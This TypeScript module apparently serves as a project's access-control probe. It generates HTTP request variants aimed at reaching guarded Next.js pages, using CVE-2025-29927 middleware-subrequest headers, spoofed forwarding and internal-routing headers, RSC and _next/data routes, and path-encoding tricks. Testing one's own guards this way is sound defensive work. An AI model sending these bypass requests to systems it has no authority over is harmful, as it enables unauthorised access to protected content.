/** A request for a page that goes around whatever stands before it: as the request line says, with these headers. */
export interface Detour {
  name: string
  target: string
  headers: Record<string, string>
}

const five = (word: string): string => Array(5).fill(word).join(':')

/**
 * Headers by which a framework's own parts talk to each other (CVE-2025-29927 and its like), and by which proxies say that
 * another address was meant.
 */
const spoken: [string, string][] = [
  ...['middleware', 'src/middleware', 'pages/_middleware', 'proxy', 'src/proxy'].flatMap((word): [string, string][] => [
    ['x-middleware-subrequest', word],
    ['x-middleware-subrequest', five(word)],
  ]),
  ['x-middleware-next', '1'],
  ['x-middleware-invoke', '1'],
  ['x-middleware-prefetch', '1'],
  ['x-middleware-skip', '1'],
  ['x-middleware-subrequest-id', '0'],
  ['x-middleware-set-cookie', 'hw-session=x'],
  ['x-middleware-override-headers', 'x-homeward-path,cookie'],
  ['x-homeward-path', '/en'],
  ['x-homeward-network', 'local'],
  ['x-invoke-status', '200'],
  ['x-nextjs-data', '1'],
  ['x-nextjs-prerender', '1'],
  ['x-nextjs-postponed', '1'],
  ['x-prerender-revalidate', '0'.repeat(32)],
  ['next-resume', '1'],
  ['purpose', 'prefetch'],
  ['next-router-prefetch', '1'],
  ['rsc', '1'],
  ['authorization', 'Bearer x'],
  ['x-forwarded-for', '127.0.0.1'],
  ['x-forwarded-proto', 'https'],
  ['x-forwarded-host', 'localhost'],
]

const tree = encodeURIComponent(JSON.stringify(['', { children: ['__PAGE__', {}] }, null, 'refetch', true]))

/** Every way we know to ask for `page` (a path with or without a query) past the proxy file and the page's own guard. */
export function detours(page: string, buildId: string): Detour[] {
  const [path = '', query = ''] = page.split('?')
  const withQuery = (one: string, more = '') => `${one}?${[query, more].filter(Boolean).join('&')}`.replace(/\?$/, '')
  const headers = spoken.map(
    ([name, value]): Detour => ({ name: `${name}: ${value}`, target: page, headers: { [name]: value } }),
  )
  // Asked of a page that anybody may see, where the page is named beside it.
  const named = ['x-invoke-path', 'x-matched-path', 'x-original-url', 'x-rewrite-url', 'x-middleware-rewrite'].map(
    (name): Detour => ({ name, target: '/sign-in', headers: { [name]: page } }),
  )
  const segments = ['/_tree', '/_full', '/_index', '/__PAGE__', `${path}/__PAGE__`].map(
    (segment): Detour => ({
      name: `segment ${segment}`,
      target: withQuery(path, '_rsc=1'),
      headers: { rsc: '1', 'next-router-prefetch': '1', 'next-router-segment-prefetch': segment },
    }),
  )
  const targets = [
    withQuery(`${path}.rsc`),
    withQuery(`${path}.prefetch.rsc`),
    withQuery(`${path}.segments/_tree.segment.rsc`),
    withQuery(`${path}.segments/_full.segment.rsc`),
    withQuery(`${path}.segments/__PAGE__.segment.rsc`),
    withQuery(`${path}.json`),
    withQuery(`/_next/data/${buildId}${path}.json`),
    withQuery(`/_next/data/${buildId}/en${path}.json`),
    withQuery(`/_next/data/none${path}.json`),
    withQuery(`/_next/data/${buildId}${path}.rsc`),
    ...['/en', '/fr', '/en-US', '/default', '/_next'].map(prefix => withQuery(`${prefix}${path}`)),
    withQuery(path, '_rsc=abc'),
    withQuery(path, '__nextLocale=fr'),
    withQuery(path, '__nextDataReq=1'),
    withQuery(path, '__nextDefaultLocale=fr'),
    withQuery(path, 'nxtPid=1'),
    withQuery(path, 'lang=fr'),
    withQuery(`${path}/`),
    withQuery(`/${path}`),
    withQuery(`/.${path}`),
    withQuery(`/x/..${path}`),
    withQuery(`${path}/.`),
    withQuery(`${path};x`),
    withQuery(`${path}%2f`),
    withQuery(`${path}%00`),
    withQuery(`${path}%20`),
    withQuery(path.replace(/^\/(.)/, (_, letter: string) => `/%${letter.charCodeAt(0).toString(16)}`)),
    withQuery(path.toUpperCase()),
    withQuery(path.replaceAll('/', '\\')),
    withQuery(`http://localhost${path}`),
    `/_next/image?url=${encodeURIComponent(page)}&w=64&q=75`,
  ].map((target): Detour => ({ name: target, target, headers: {} }))
  const flights = targets
    .filter(({ target }) => target.startsWith('/') && !target.startsWith('/_next'))
    .slice(0, 8)
    .map(({ target }): Detour => ({ name: `flight of ${target}`, target, headers: { rsc: '1' } }))
  const routed = { rsc: '1', 'next-router-state-tree': tree, 'next-url': path }
  return [
    ...headers,
    ...named,
    ...segments,
    ...targets,
    ...flights,
    { name: 'router state', target: withQuery(path, '_rsc=1'), headers: routed },
  ]
}
